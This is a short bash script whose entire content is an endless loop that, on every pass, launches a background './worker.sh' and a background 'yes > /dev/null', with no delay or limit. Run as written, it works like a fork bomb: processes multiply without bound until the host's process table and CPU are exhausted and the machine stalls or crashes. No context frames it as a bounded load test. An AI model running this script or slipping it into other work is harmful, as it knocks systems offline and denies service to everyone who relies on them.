#!/bin/bash
while :
do
  ./worker.sh &
  bash -c 'yes > /dev/null' &
done
